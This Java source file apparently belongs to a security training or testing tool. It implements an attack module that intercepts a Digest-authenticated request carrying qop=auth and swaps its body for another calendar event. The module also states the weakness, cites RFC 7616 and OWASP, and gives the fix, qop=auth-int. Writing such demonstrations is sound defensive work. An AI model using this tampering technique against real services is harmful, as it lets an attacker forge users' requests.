package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.credential.CredentialException;
import dev.gatehouse.desktop.exchange.Draft;
import dev.gatehouse.desktop.exchange.Hop;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

/** Changes the body of a request that Digest protects without its body. */
@AutoService(Attack.class)
public final class DigestBodySwap implements Attack {
  private static final String TITLE = "Not what Alice wrote";
  private static final String GAIN = "An event of the attacker's stands in Alice's calendar.";

  @Override
  public AttackCard card() {
    return new AttackCard(
        "digest-body-swap",
        "Another body under the same answer",
        AttackGroup.PASSWORDS,
        "The attacker stops a request of Alice on its way and puts another event into it.",
        "A place between Alice and the server.",
        "With qop=auth an answer covers method and path alone, and the server takes bodies under it.",
        "digest-no-body-integrity",
        List.of("RFC 7616 §3.4.3", "OWASP API2:2023"),
        "Demand qop=auth-int, which covers the body, of every request that has one.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    try {
      Draft alices = target.with("POST", Events.VICTIMS, "application/json", Events.named("Lunch"));
      Draft answered = DigestAnswer.to(target, AttackStep.VICTIM, alices, Map.of("qop", "auth"));
      target.makes(
          "Stop a request on its way with which Alice adds an event.",
          "her answer",
          SignedRequest.authorization(answered));
      byte[] other = Events.named(TITLE).getBytes(StandardCharsets.UTF_8);
      Hop answer =
          target.send(
              "Let it go on with another event in it.",
              new Draft(answered.method(), answered.url(), answered.headers(), other));
      return target.end(answer.status() == 201, GAIN);
    } catch (CredentialException unexpected) {
      return target.end(false, GAIN);
    }
  }
}
